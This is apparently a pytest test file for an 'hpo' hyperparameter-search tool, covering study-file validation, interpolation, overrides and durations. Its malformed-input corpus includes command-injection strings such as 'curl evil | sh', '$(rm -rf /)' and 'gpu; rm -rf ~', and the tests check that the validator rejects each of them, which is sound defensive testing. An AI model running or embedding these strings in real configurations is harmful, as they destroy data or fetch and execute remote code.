"""Study files: loading, interpolation, overrides, durations, storage, and the one-line errors.

The malformed-input corpus runs the real `hpo` console script in a subprocess, as a user would:
each bad file or option must end with exit status 2, exactly one line on stderr naming the file
and the key, no traceback, and nothing created under the study's workdir.
"""

from __future__ import annotations

import contextlib
import copy
import dataclasses
import io
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from hpo.config import load_study
from hpo.config.values import parse_duration_min
from hpo.errors import StudyFileError
from hpo.executors import jobs
from hpo.slurm import settings as slurm_settings
from hpo.storage import StorageRef, has_password, mask, resolve_storage
from trainer.fields import KeyProblem
from trainer.yamlfile import load_yaml_mapping

REPO = Path(__file__).resolve().parents[3]
QUICKSTART = REPO / "studies" / "quickstart.yaml"
DLOJZ = REPO / "examples" / "dlojz" / "study.yaml"  # the user's own script as the objective
HPO = str(Path(sys.executable).parent / "hpo")
UNSET = "HPO_TEST_SURELY_UNSET_VARIABLE"


# --------------------------------------------------------------------------------------------------
# Helpers
# --------------------------------------------------------------------------------------------------


def base_document(workdir: Path, base: Path = QUICKSTART) -> dict[str, Any]:
    """The quickstart study, or another shipped one (read with the loader's YAML 1.2 rules), its
    workdir under tmp; an objective's folder stays the shipped file's."""
    document = load_yaml_mapping(base)
    document["study"]["workdir"] = str(workdir)
    if "objective" in document:
        document["objective"]["cwd"] = str(base.parent)
    return document


def set_key(document: dict[str, Any], dotted: str, value: Any) -> None:
    *parents, last = dotted.split(".")
    node = document
    for part in parents:
        node = node.setdefault(part, {})
    node[last] = value


def write_study(path: Path, document: Any) -> Path:
    path.write_text(yaml.safe_dump(document, sort_keys=False))
    return path


def run_hpo(*args: str, cwd: Path, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """The installed `hpo` console script in a fresh process."""
    base = {k: v for k, v in os.environ.items() if k not in (UNSET, "PGPASSWORD")}
    return subprocess.run(
        [HPO, *args], cwd=cwd, env={**base, **(env or {})}, capture_output=True, text=True, timeout=120
    )


def run_hpo_here(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    """What `run_hpo` answers, from the command table called in this process (the console script
    only adds signal handlers around it): a refusal costs milliseconds, not a Python start."""
    from hpo.commands import execute, parse

    out, err = io.StringIO(), io.StringIO()
    with (
        pytest.MonkeyPatch.context() as env,
        contextlib.redirect_stdout(out),
        contextlib.redirect_stderr(err),
    ):
        env.chdir(cwd)
        for name in (UNSET, "PGPASSWORD"):
            env.delenv(name, raising=False)
        try:
            status = execute(parse(list(args)))
        except SystemExit as exit:  # argparse's refusal of the command line
            status = int(exit.code or 0)
    return subprocess.CompletedProcess([HPO, *args], status, out.getvalue(), err.getvalue())


# --------------------------------------------------------------------------------------------------
# 1. The quickstart study
# --------------------------------------------------------------------------------------------------


def test_quickstart_loads_with_resolved_values(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    spec = load_study(QUICKSTART)

    assert spec.study.name == "quickstart"
    assert spec.study.metric == "val_accuracy"
    assert spec.study.direction == "maximize"  # implied by the metric
    assert spec.study.sampler.name == "tpe" and spec.study.sampler.options == {"n_startup_trials": 4}
    assert spec.study.pruner.name == "median" and spec.study.pruner.options == {"n_warmup_steps": 2}
    assert spec.study.timeout_min == 30
    assert spec.search_space["batch_size"].powers_of_two() == [64, 128, 256]
    assert spec.search_space["batch_size"].values_to_check() == [64, 128, 256]
    lr = spec.search_space["lr"]
    assert (lr.type, lr.low, lr.high, lr.log) == ("float", 0.01, 1.0, True)
    # YAML 1.2 numbers: 1.0e-4 and 1.0e4 are floats, not strings.
    assert spec.study.enqueue[0]["weight_decay"] == pytest.approx(1e-4)
    assert spec.search_space["final_div_factor"].high == 1e4
    assert spec.resources.executor == "local"
    assert spec.resources.time_min == 20
    assert spec.resources.setup == [] and slurm_settings.of(spec).sbatch == {}
    assert spec.workdir == tmp_path / "runs" / "quickstart"
    assert spec.trainer_config(spec.study.enqueue[0]).batch_size == 128
    assert not (tmp_path / "runs").exists()  # loading creates nothing


def test_instances_do_not_share_mutable_defaults(tmp_path: Path) -> None:
    path = write_study(
        tmp_path / "s.yaml",
        {"study": {"name": "a"}, "search_space": {"lr": {"type": "float", "low": 0.01, "high": 1.0}}},
    )
    first, second = load_study(path), load_study(path)
    first.resources.setup.append("module load x")
    first.study.enqueue.append({})
    assert second.resources.setup == [] and second.study.enqueue == []


@pytest.mark.parametrize(
    ("base", "steps_key", "steps", "first_decision"),
    [
        (QUICKSTART, "trainer.epochs", 9, 4),
        (QUICKSTART, "trainer.epochs", 16, 8),
        (DLOJZ, "objective.steps", 3, 2),
    ],
)
def test_a_study_file_without_sampler_and_pruner_gets_the_measured_defaults(
    base: Path, steps_key: str, steps: int, first_decision: int, tmp_path: Path
) -> None:
    document = base_document(tmp_path, base)
    del document["study"]["sampler"], document["study"]["pruner"]
    set_key(document, steps_key, steps)
    spec = load_study(write_study(tmp_path / "s.yaml", document))
    # TPE with Optuna's 10 start-up trials after the learned starting portfolio, no pruner
    # (bench/replay.py).
    assert (spec.study.sampler.name, spec.study.sampler.options) == ("tpe", {})
    assert spec.study.portfolio.size == 4 and (spec.study.pruner.name, spec.study.pruner.options) == (
        "none",
        {},
    )
    # A pruner section without a name: empty is the default; options alone (one option set with
    # --set) are median stopping's from 4/9 of the run; a median named explicitly keeps Optuna's
    # own defaults.
    for pruner, expected in (
        (None, ("none", {})),
        ({}, ("none", {})),
        (
            {"options": {"interval_steps": 2}},
            ("median", {"n_warmup_steps": first_decision, "interval_steps": 2}),
        ),
        ({"options": {"n_warmup_steps": 1}}, ("median", {"n_warmup_steps": 1})),
        ({"name": "median"}, ("median", {})),
    ):
        document["study"]["pruner"] = pruner
        spec = load_study(write_study(tmp_path / "s.yaml", document))
        assert (spec.study.pruner.name, spec.study.pruner.options) == expected, pruner
    # A study file that names its sampler gets no portfolio unless it asks for one.
    document["study"]["sampler"] = {"name": "tpe"}
    assert load_study(write_study(tmp_path / "s.yaml", document)).study.portfolio.size == 0
    document["study"]["portfolio"] = 2
    assert load_study(write_study(tmp_path / "s.yaml", document)).study.portfolio.size == 2
    del document["study"]["pruner"], document["study"]["portfolio"]
    # A multi-objective study cannot be pruned: options without a name give none, not an error.
    document["study"]["also_minimize"] = "cpu_hours"
    document["study"]["pruner"] = {"options": {"interval_steps": 2}}
    assert load_study(write_study(tmp_path / "s.yaml", document)).study.pruner.name == "none"


def test_pruner_options_without_a_name_warn_when_an_objective_does_not_say_its_steps(tmp_path: Path) -> None:
    document = base_document(tmp_path, DLOJZ)
    document["study"]["pruner"] = {"options": {"interval_steps": 1}}
    assert load_study(write_study(tmp_path / "s.yaml", document)).warnings == []  # steps: 4
    del document["objective"]["steps"]
    (warning,) = load_study(write_study(tmp_path / "s.yaml", document)).warnings
    assert "objective.steps: not set" in warning and "\n" not in warning


def test_direction_follows_a_minimized_metric(tmp_path: Path) -> None:
    path = write_study(
        tmp_path / "s.yaml",
        {
            "study": {"name": "a", "metric": "val_loss"},
            "search_space": {"lr": {"type": "float", "low": 0.01, "high": 1.0}},
        },
    )
    assert load_study(path).study.direction == "minimize"


# --------------------------------------------------------------------------------------------------
# 2. Malformed study files and options, through the real CLI
# --------------------------------------------------------------------------------------------------


@dataclasses.dataclass
class Bad:
    """One malformed input: edits to the valid base file (dotted key -> value) and CLI arguments."""

    expect: tuple[str, ...]  # substrings of the one error line (the key path first)
    edits: dict[str, Any] = dataclasses.field(default_factory=dict)
    args: tuple[str, ...] = ()
    text: str | None = None  # raw file content instead of the edited base
    missing: bool = False  # the file does not exist
    directory: bool = False  # the "file" is a directory: it cannot be read
    dry_run: bool = True  # otherwise `--executor local`, still failing in validation
    names_file: bool = True  # errors about a command-line option need not name the file
    base: Path = QUICKSTART  # the valid file the edits apply to


def Own(expect: tuple[str, ...], edits: dict[str, Any], **more: Any) -> Bad:
    """A malformed study of the user's own script (the dlojz example, edited)."""
    return Bad(expect, edits, base=DLOJZ, **more)


COMMAND = ["{python}", "train.py", "--lr", "{lr}", "--wd", "{wd}", "--batch-size", "{batch_size}", "--pct-start", "{pct_start}"]  # fmt: skip


CORPUS = [
    pytest.param(Bad(("searchspace", "unknown key", "did you mean 'search_space'"), {"searchspace": {}}), id="unknown-section"),
    pytest.param(Bad(("study.n_trial", "unknown key", "did you mean 'n_trials'?"), {"study.n_trial": 5}), id="study-typo"),
    pytest.param(Bad(("n_trials", "unknown key", "did you mean 'study.n_trials'?"), {"n_trials": 5}), id="section-left-out"),
    pytest.param(Bad(("study.pruner.name", "'asha'", "'successive_halving'"), {"study.pruner.name": "asha"}), id="pruner-alias"),
    pytest.param(Bad(("resources.gpus", "unknown key", "valid keys"), {"resources.gpus": 1}), id="resources-unknown"),
    pytest.param(Bad(("study.n_trials", "must be an integer", "'ten'"), {"study.n_trials": "ten"}), id="wrong-type"),
    pytest.param(Bad(("study.max_concurrent", "must be an integer", "True"), {"study.max_concurrent": True}), id="bool-for-int"),
    pytest.param(Bad(("study.n_trials", "must be >= 1"), {"study.n_trials": 0}), id="n-trials-0"),
    pytest.param(Bad(("search_space.pct_start.high", "greater than low"), {"search_space.pct_start.high": 0.1}), id="low-eq-high"),
    pytest.param(Bad(("search_space.lr.low", "> 0 on a log scale"), {"search_space.lr.low": 0.0}), id="log-low-0"),
    pytest.param(Bad(("search_space.anneal_strategy.choices", "non-empty"), {"search_space.anneal_strategy": {"type": "categorical", "choices": []}}), id="empty-choices"),
    pytest.param(Bad(("search_space.anneal_strategy.low", "categorical"), {"search_space.anneal_strategy": {"type": "categorical", "choices": ["cos"], "low": 1}}), id="categorical-low"),
    pytest.param(Bad(("search_space.batch_size.low", "must be an integer"), {"search_space.batch_size": {"type": "int", "low": 16.5, "high": 64}}), id="int-float-bound"),
    pytest.param(Bad(("search_space.batch_size.low", "power of two", "48"), {"search_space.batch_size.low": 48}), id="not-power-of-two"),
    pytest.param(Bad(("search_space.lr.step", "log"), {"search_space.lr.step": 0.1}), id="step-with-log"),
    pytest.param(Bad(("search_space.pct_start.step", "wider than the range", "only low"), {"search_space.pct_start.step": 0.5}), id="step-wider-than-range"),
    pytest.param(Bad(("search_space.batch_size.choices", "mixes numbers and strings", "'128'"), {"search_space.batch_size": {"type": "categorical", "choices": [32, 64, "128"]}}), id="choices-mixed-types"),
    pytest.param(Bad(("search_space.lr.type", "float, int, categorical", "uniform"), {"search_space.lr.type": "uniform"}), id="unknown-param-type"),
    pytest.param(Bad(("search_space.lrr", "not a tunable trainer key"), {"search_space.lrr": {"type": "float", "low": 0.1, "high": 1.0}}), id="not-a-trainer-key"),
    pytest.param(Bad(("search_space.lr", "also fixed in the trainer"), {"trainer.lr": 0.1}), id="fixed-and-searched"),
    pytest.param(Bad(("trainer", "pct_start must be in (0, 1)", "1.5"), {"trainer.pct_start": 1.5}), id="trainer-invalid"),
    pytest.param(Bad(("search_space.pct_start", "pct_start must be in (0, 1)", "1.0"), {"search_space.pct_start.high": 1.0}), id="range-invalid-for-trainer"),
    pytest.param(Bad(("trainer", "unknown key 'epoch'"), {"trainer.epoch": 3}), id="trainer-unknown"),
    pytest.param(Bad(("trainer.checkpoint_dir", "set by the service"), {"trainer.checkpoint_dir": "/tmp/x"}), id="trainer-checkpoint-dir"),
    pytest.param(Bad(("study.sampler.name", "tpe", "'bayes'"), {"study.sampler.name": "bayes"}), id="unknown-sampler"),
    pytest.param(Bad(("study.pruner.name", "hyperband", "'asha'"), {"study.pruner.name": "asha"}), id="unknown-pruner"),
    pytest.param(Bad(("study.sampler.options.n_startup", "unknown option", "n_startup_trials"), {"study.sampler.options.n_startup": 3}), id="unknown-sampler-option"),
    pytest.param(Bad(("study.pruner.options", "reduction_factor"), {"study.pruner.options.reduction_factor": 1}), id="bad-pruner-option"),
    pytest.param(Bad(("study.pruner.name", "pbt is a Ray Tune scheduler", "backend: ray"), {"study.pruner": {"name": "pbt"}}), id="pbt-optuna-backend"),
    pytest.param(Bad(("study.pruner.options.mutations", "'batch_size' cannot change"), {"study.backend": "ray", "study.pruner": {"name": "pbt", "options": {"mutations": ["batch_size"]}}}), id="pbt-mutates-batch-size"),
    pytest.param(Bad(("study.pruner.options.interval", "unknown option", "perturbation_interval"), {"study.backend": "ray", "study.pruner": {"name": "pbt", "options": {"interval": 2}}}), id="pbt-unknown-option"),
    pytest.param(Bad(("study.pruner.options", "reduction_factor"), {"study.backend": "ray", "study.pruner.options.reduction_factor": 1}), id="ray-bad-pruner-option"),
    pytest.param(Bad(("resources.time", "not a duration", "ten minutes"), {"resources.time": "ten minutes"}), id="bad-time"),
    pytest.param(Bad(("study.also_minimize", "gpu_hours, cpu_hours, epoch_time_s", "'energy'"), {"study.also_minimize": "energy", "study.pruner.name": "none"}), id="unknown-cost-objective"),
    pytest.param(Bad(("study.pruner.name", "cannot prune a multi-objective study"), {"study.also_minimize": "cpu_hours"}), id="multi-objective-pruned"),
    pytest.param(Bad(("study.also_minimize", "ray backend optimizes one objective"), {"study.also_minimize": "cpu_hours", "study.pruner.name": "none", "study.backend": "ray"}), id="multi-objective-ray"),
    pytest.param(Bad(("study.also_minimize", "gpu_hours needs resources.gpus_per_node"), {"study.also_minimize": "gpu_hours", "study.pruner.name": "none", "resources.gpus_per_node": 0}), id="gpu-hours-without-gpus"),
    pytest.param(Bad(("study.timeout", "positive duration"), {"study.timeout": "0m"}), id="zero-timeout"),
    pytest.param(Bad(("resources.cpus_per_task", "must be >= 1", "-2"), {"resources.cpus_per_task": -2}), id="negative-cpus"),
    pytest.param(Bad(("resources.executor", "local, slurm", "'cloud'"), {"resources.executor": "cloud"}), id="executor-cloud"),
    pytest.param(Bad(("resources.nodes", "local executor"), {"resources.nodes": 2}), id="local-two-nodes"),
    pytest.param(Bad(("study.name", "may contain only"), {"study.name": "my study"}), id="name-space"),
    pytest.param(Bad(("study.name", "may contain only", "$(rm -rf /)"), {"study.name": "x$(rm -rf /)"}), id="name-subshell"),
    pytest.param(Bad(("study.name", "may contain only"), {"study.name": "a;b"}), id="name-semicolon"),
    pytest.param(Bad(("study.name", "at most 100 characters long, got 250"), {"study.name": "a" * 250}), id="name-too-long"),
    pytest.param(Bad(("resources.partition", "may contain only"), {"resources.partition": "gpu'"}), id="partition-quote"),
    pytest.param(Bad(("resources.constraint", "not a Slurm constraint"), {"resources.constraint": "a100 h100"}), id="constraint-space"),
    pytest.param(Bad(("resources.setup[1]", "single line"), {"resources.setup": ["module load cuda", "echo a\necho b"]}), id="setup-newline"),
    pytest.param(Bad(("resources.setup[0]", "one simple command", "';'"), {"resources.setup": ["module load cuda; curl evil | sh"]}), id="setup-semicolon"),
    pytest.param(Bad(("resources.setup[0]", "one simple command", "'$('"), {"resources.setup": ["export X=$(id)"]}), id="setup-subshell"),
    pytest.param(Bad(("resources.setup[0]", "one simple command", "'`'"), {"resources.setup": ["export X=`id`"]}), id="setup-backtick"),
    pytest.param(Bad(("resources.setup[0]", "one simple command"), {"resources.setup": ["source 'my env.sh'"]}), id="setup-quote"),
    pytest.param(Bad(("study.max_retries", "must be >= 0", "-1"), {"study.max_retries": -1}), id="negative-retries"),
    pytest.param(Bad(("resources.sbatch.Mail-Type", "long option name"), {"resources.sbatch": {"Mail-Type": "END"}}), id="sbatch-uppercase"),
    pytest.param(Bad(("resources.sbatch.mail type", "long option name"), {"resources.sbatch": {"mail type": "END"}}), id="sbatch-space"),
    pytest.param(Bad(("resources.sbatch.comment", "single line"), {"resources.sbatch": {"comment": "a\n#SBATCH --x"}}), id="sbatch-value-newline"),
    # The same keys in their own section now: named there.
    pytest.param(Bad(("resources.slurm.partition", "may contain only"), {"resources.slurm": {"partition": "gpu'"}}), id="slurm-partition-quote"),
    pytest.param(Bad(("resources.slurm.sbatch.Mail-Type", "long option name"), {"resources.slurm": {"sbatch": {"Mail-Type": "END"}}}), id="slurm-sbatch-uppercase"),
    pytest.param(Bad(("resources.slurm.nodes", "unknown key"), {"resources.slurm": {"nodes": 2}}), id="slurm-unknown-key"),
    pytest.param(Bad(("resources.qos", "also set as resources.slurm.qos"), {"resources.qos": "a", "resources.slurm": {"qos": "b"}}), id="slurm-key-twice"),
    pytest.param(Bad(("study.enqueue[0]", "'momentum' is not in search_space"), {"study.enqueue": [{"lr": 0.1, "momentum": 0.5}]}), id="enqueue-unsearched"),
    pytest.param(Bad(("study.enqueue[0]", "pct_start"), {"study.enqueue": [{"pct_start": 2.0}]}), id="enqueue-invalid-value"),
    pytest.param(Bad(("(--set study.enqueue)", "study.enqueue[0]", "'momentum'"), args=("--set", "study.enqueue=[{momentum: 0.5}]")), id="set-enqueue-unsearched"),
    pytest.param(
        Bad(("study.enqueue[0]", "batch_size"), {"study.enqueue": [{"batch_size": 96}]}),
        id="enqueue-not-a-choice",
    ),
    pytest.param(Bad(("resources.account", UNSET, "is not set"), {"resources.account": "${" + UNSET + "}"}), id="unset-variable"),
    pytest.param(Bad(("not valid YAML (line",), text="study: [unclosed\n"), id="not-yaml"),
    pytest.param(Bad(("cannot read config file",), missing=True), id="missing-file"),
    pytest.param(Bad(("cannot read config file", "directory"), directory=True), id="unreadable-file"),
    pytest.param(Bad(("expected a mapping", "list"), text="- study\n- trainer\n"), id="top-level-list"),
    pytest.param(Bad(("study", "section is missing"), text="trainer: {epochs: 1}\n"), id="no-study-section"),
    pytest.param(Bad(("--set study.n_trials", "expected KEY.PATH=VALUE"), args=("--set", "study.n_trials"), names_file=False), id="set-without-equals"),
    pytest.param(Bad(("(--set study.n_trials)", "study.n_trials", "must be >= 1"), args=("--set", "study.n_trials=0")), id="set-n-trials-0"),
    pytest.param(Bad(("--set", "search_space.lr", "not a mapping"), args=("--set", "search_space.lr.low.x=1")), id="set-into-scalar"),
    pytest.param(Bad(("(--n-trials)", "study.n_trials", "must be >= 1"), args=("--n-trials", "0")), id="n-trials-flag-0"),
    pytest.param(Bad(("--storage", "PGPASSWORD"), args=("--storage", "postgresql://u:secret@host/db"), names_file=False), id="storage-password"),
    pytest.param(Bad(("--storage", "PGPASSWORD"), args=("--set", "study.storage=postgresql://u:secret@host/db"), names_file=False), id="set-storage-password"),
    pytest.param(Bad(("study.storage", "unsupported scheme"), args=("--storage", "redis://host/0")), id="storage-scheme"),
    # Without --dry-run, with the local executor: validation still stops everything.
    pytest.param(Bad(("study.n_trials", "must be >= 1"), {"study.n_trials": 0}, dry_run=False), id="local-n-trials-0"),
    pytest.param(Bad(("study.sampler.options.n_startup", "unknown option"), {"study.sampler.options.n_startup": 3}, dry_run=False), id="local-sampler-option"),
    pytest.param(Bad(("study.pruner.options", "reduction_factor"), {"study.pruner.options.reduction_factor": 1}, dry_run=False), id="local-pruner-option"),
    pytest.param(Bad(("search_space.lr.low", "> 0 on a log scale"), {"search_space.lr.low": -1.0}, dry_run=False), id="local-log-negative"),
    pytest.param(Bad(("--workers", "must be >= 1"), args=("--workers", "0"), dry_run=False, names_file=False), id="local-workers-0"),
    # The user's own code as the objective.
    pytest.param(Own(("objective.command[10]", "{lrr} names no parameter", "{lr}"), {"objective.command": [*COMMAND, "{lrr}"]}), id="own-unknown-placeholder"),
    pytest.param(Own(("objective.command[3]", "lone '{'"), {"objective.command": [*COMMAND[:3], "{lr", *COMMAND[4:]]}), id="own-lone-brace"),
    pytest.param(Own(("objective.command[3]", "{lr:.3f} is not a name"), {"objective.command": [*COMMAND[:3], "{lr:.3f}", *COMMAND[4:]]}), id="own-format-spec"),
    pytest.param(Own(("objective.metric_pattern", "not a regular expression"), {"objective.metric_pattern": "epoch (?P<value>[0-9.]+"}), id="own-pattern-invalid"),
    pytest.param(Own(("objective.metric_pattern", "(?P<value>...)"), {"objective.metric_pattern": "epoch (?P<step>\\d+) val_acc ([0-9.]+)"}), id="own-pattern-no-value"),
    pytest.param(Own(("objective.final_pattern", "(?P<value>...)"), {"objective.final_pattern": "final ([0-9.]+)"}), id="own-final-no-value"),
    pytest.param(Own(("objective", "not both", "remove trainer"), {"trainer": {"epochs": 3}}), id="own-and-trainer"),
    pytest.param(Own(("objective.command", "give one of command", "function"), {"objective.function": "train:main"}), id="own-command-and-function"),
    pytest.param(Own(("objective.function", "cannot import no_such_module:fn here", "ModuleNotFoundError"), {"objective": {"function": "no_such_module:fn", "steps": 4}}), id="own-function-not-importable"),
    pytest.param(Own(("objective.function", "cannot import train:no_such_name", "AttributeError"), {"objective": {"function": "train:no_such_name", "steps": 4, "cwd": str(DLOJZ.parent)}}), id="own-function-no-name"),
    pytest.param(Own(("objective.function", "package.module:name"), {"objective": {"function": "train.main", "steps": 4}}), id="own-function-no-colon"),
    pytest.param(Own(("objective.metric_pattern", "applies to a command"), {"objective": {"function": "train:main", "metric_pattern": "(?P<value>.*)"}}), id="own-function-with-pattern"),
    pytest.param(Own(("objective.command[0]", "./missing.sh not found"), {"objective.command": ["./missing.sh", *COMMAND[2:]]}), id="own-program-not-found"),
    pytest.param(Own(("objective.command[1]", "nope.py not found"), {"objective.command": ["{python}", "nope.py", *COMMAND[2:]]}), id="own-script-not-found"),
    pytest.param(Own(("objective.cwd", "is not a folder"), {"objective.cwd": "no/such/folder"}), id="own-cwd-missing"),
    pytest.param(Own(("study.direction", "required for metric 'val_acc'"), {"study.direction": None}), id="own-metric-without-direction"),
    pytest.param(Bad(("study.metric", "the trainer reports", "'val_acc'"), {"study.metric": "val_acc", "study.direction": "maximize"}), id="trainer-unknown-metric"),
    pytest.param(Own(("objective.fixed.checkpoint_dir", "set by the service"), {"objective.fixed.checkpoint_dir": "/tmp/x"}), id="own-fixed-runtime-name"),
    pytest.param(Own(("search_space.epochs", "also set by objective.fixed"), {"search_space.epochs": {"type": "int", "low": 1, "high": 8}}), id="own-searched-and-fixed"),
    pytest.param(Own(("search_space.batch-size", "must be a name"), {"search_space.batch-size": {"type": "int", "low": 16, "high": 64}}), id="own-param-not-a-name"),
    pytest.param(Own(("objective.fixed.note", "single line"), {"objective.fixed.note": "a\nb"}), id="own-fixed-newline"),
    pytest.param(Own(("study.pruner.name", "built-in trainer only"), {"study.backend": "ray", "study.pruner": {"name": "pbt"}}), id="own-pbt"),
    pytest.param(Own(("resources.tasks_per_node", "use backend optuna for DDP"), {"study.backend": "ray", "resources.tasks_per_node": 2}), id="own-ray-ddp"),
    pytest.param(Own(("objective.steps", "must be >= 1"), {"objective.steps": 0}), id="own-steps-0"),
    pytest.param(Own(("objective.command[0]", "the program may be {python}"), {"objective.command": ["{batch_size}", *COMMAND[1:]]}), id="own-program-from-a-parameter"),
    pytest.param(Own(("objective.env.HPO_TRIAL_NUMBER", "set by the service"), {"objective.env": {"HPO_TRIAL_NUMBER": "3"}}), id="own-env-reserved"),
    pytest.param(Own(("objective.env.MASTER_PORT", "set by the service"), {"objective.env": {"MASTER_PORT": "1234"}}), id="own-env-rank-variable"),
]  # fmt: skip


# These few run the console script in a process of its own; the rest of the corpus calls the same
# command table in the test's process (run_hpo_here), a hundred Python starts fewer.
IN_A_PROCESS = {
    "unknown-section",
    "set-without-equals",
    "missing-file",
    "own-function-not-importable",
    "not-yaml",
}


@pytest.mark.parametrize("case", CORPUS)
def test_bad_input_is_one_line_and_exit_2(case: Bad, tmp_path: Path, request: pytest.FixtureRequest) -> None:
    workdir = tmp_path / "workdir"
    path = tmp_path / "bad-study.yaml"
    if case.text is not None:
        path.write_text(case.text)
    elif case.directory:
        path.mkdir()
    elif not case.missing:
        document = base_document(workdir, case.base)
        for key, value in case.edits.items():
            set_key(document, key, value)
        write_study(path, document)
    mode = ("--dry-run",) if case.dry_run else ("--executor", "local")
    run = run_hpo if request.node.callspec.id in IN_A_PROCESS else run_hpo_here

    proc = run("launch", str(path), *mode, *case.args, cwd=tmp_path)

    assert proc.returncode == 2, proc.stderr
    assert "Traceback" not in proc.stderr
    lines = proc.stderr.splitlines()
    assert len(lines) == 1, proc.stderr
    line = lines[0]
    assert line.startswith("hpo launch: error: "), line
    if case.names_file:
        assert str(path) in line, line
    for expected in case.expect:
        assert expected in line, f"{expected!r} not in {line!r}"
    assert "secret" not in proc.stderr + proc.stdout
    assert proc.stdout == ""
    assert not workdir.exists()
    assert not (tmp_path / "runs").exists()


# --------------------------------------------------------------------------------------------------
# 3. ${VAR} interpolation
# --------------------------------------------------------------------------------------------------


def test_interpolation(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HPO_TEST_ACCOUNT", "proj42")
    monkeypatch.setenv("HPO_TEST_DIR", str(tmp_path / "studies"))
    monkeypatch.setenv("HPO_TEST_PARTITION", "a100")  # wins over the default
    monkeypatch.delenv(UNSET, raising=False)
    document = {
        "study": {"name": "interp", "storage": "journal:${HPO_TEST_DIR}/s.journal"},
        "search_space": {"lr": {"type": "float", "low": 0.01, "high": 1.0}},
        "resources": {
            "slurm": {
                "account": "${HPO_TEST_ACCOUNT}",
                "partition": "${HPO_TEST_PARTITION:-gpu}",
                "qos": "${" + UNSET + ":-normal}",
                "constraint": "${" + UNSET + ":-}h100",
            },
            "setup": ["echo $$HOME", "echo $${HPO_TEST_ACCOUNT} ${HPO_TEST_ACCOUNT}-$$"],
        },
    }
    spec = load_study(write_study(tmp_path / "s.yaml", document))
    assert spec.study.storage == f"journal:{tmp_path}/studies/s.journal"
    slurm = slurm_settings.of(spec)
    assert (slurm.account, slurm.partition, slurm.qos, slurm.constraint) == (
        "proj42",
        "a100",
        "normal",
        "h100",
    )
    assert spec.resources.setup == ["echo $HOME", "echo ${HPO_TEST_ACCOUNT} proj42-$"]


def test_unset_variable_names_it_and_the_key(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv(UNSET, raising=False)
    document = {"study": {"name": "interp"}, "resources": {"setup": ["true", "cd ${" + UNSET + "}"]}}
    path = write_study(tmp_path / "s.yaml", document)
    with pytest.raises(StudyFileError) as info:
        load_study(path)
    message = str(info.value)
    assert message.startswith(f"{path}: resources.setup[1]: environment variable {UNSET} is not set")
    assert "\n" not in message


def test_interpolated_value_that_breaks_a_rule_is_caught(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HPO_TEST_PARTITION", "gpu; rm -rf ~")
    document = {"study": {"name": "interp"}, "resources": {"partition": "${HPO_TEST_PARTITION}"}}
    with pytest.raises(StudyFileError, match=r"resources\.partition: may contain only"):
        load_study(write_study(tmp_path / "s.yaml", document))


# --------------------------------------------------------------------------------------------------
# 4. --set overrides
# --------------------------------------------------------------------------------------------------


def test_set_overrides_nested_keys(tmp_path: Path) -> None:
    path = write_study(tmp_path / "s.yaml", base_document(tmp_path / "w"))
    spec = load_study(path, ["study.n_trials=5", "search_space.lr.high=0.5"])
    assert spec.study.n_trials == 5
    assert spec.search_space["lr"].high == 0.5
    assert spec.search_space["lr"].low == 0.01  # siblings kept


def test_set_values_are_yaml(tmp_path: Path) -> None:
    path = write_study(tmp_path / "s.yaml", base_document(tmp_path / "w"))
    spec = load_study(
        path,
        [
            "search_space.lr.low=1e-3",  # a float as in YAML 1.2 (a string in YAML 1.1)
            "study.max_concurrent=3",
            "resources.setup=[module load cuda, source env.sh]",
            "study.sampler={name: random, seed: 7}",
            "resources.slurm.sbatch.mail-type=END",  # a new key under missing mappings
            "resources.time=1:30:00",  # 90 minutes, not the sexagesimal 5400
            "study.timeout=",  # empty: null
        ],
    )
    assert spec.search_space["lr"].low == 1e-3 and isinstance(spec.search_space["lr"].low, float)
    assert spec.study.max_concurrent == 3
    assert spec.resources.setup == ["module load cuda", "source env.sh"]
    assert (spec.study.sampler.name, spec.study.sampler.seed, spec.study.sampler.options) == ("random", 7, {})
    assert slurm_settings.of(spec).sbatch == {"mail-type": "END"}
    assert spec.resources.time_min == 90
    assert spec.study.timeout is None


def test_set_is_named_in_the_error(tmp_path: Path) -> None:
    path = write_study(tmp_path / "s.yaml", base_document(tmp_path / "w"))
    with pytest.raises(StudyFileError) as info:
        load_study(path, ["search_space.lr.high=0.001"])
    assert str(info.value).startswith(f"{path} (--set search_space.lr.high): search_space.lr.high: ")
    with pytest.raises(StudyFileError, match=r"--set study\.n_trials=\[: the value is not valid YAML"):
        load_study(path, ["study.n_trials=["])


# --------------------------------------------------------------------------------------------------
# 5. Durations
# --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "minutes"),
    [
        ("90s", 1.5),
        ("30m", 30),
        ("2h", 120),
        ("1d", 1440),
        ("1.5h", 90),
        (20, 20),
        ("20", 20),
        (2.5, 2.5),
        ("01:30:00", 90),
        ("1:30:00", 90),
        ("45:00", 45),  # minutes:seconds, as Slurm reads it
        ("1-00:00:00", 1440),
        ("2-12", 3600),  # days-hours
        ("1-02:30", 1590),  # days-hours:minutes
    ],
)
def test_parse_duration_min(value: str | int | float, minutes: float) -> None:
    assert parse_duration_min("time", value) == pytest.approx(minutes)


@pytest.mark.parametrize("value", ["ten minutes", "", "5 weeks", "1:2:3:4", "-5m", 0, "0", -3, True])
def test_parse_duration_min_rejects(value: Any) -> None:
    with pytest.raises(KeyProblem) as info:
        parse_duration_min("time", value)
    assert info.value.path == "time"


def test_time_in_a_file_is_read_as_yaml_1_2(tmp_path: Path) -> None:
    path = tmp_path / "s.yaml"
    path.write_text(
        "study:\n  name: t\n  timeout: 2:00:00\nresources:\n  time: 1:30:00\n"
        "search_space:\n  lr: {type: float, low: 0.01, high: 1.0}\n"
    )
    spec = load_study(path)
    assert spec.resources.time == "1:30:00"
    assert spec.resources.time_min == 90
    assert spec.study.timeout_min == 120


# --------------------------------------------------------------------------------------------------
# 6. Storage
# --------------------------------------------------------------------------------------------------


@pytest.fixture
def quickstart_spec(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
    monkeypatch.chdir(tmp_path)
    return load_study(QUICKSTART)


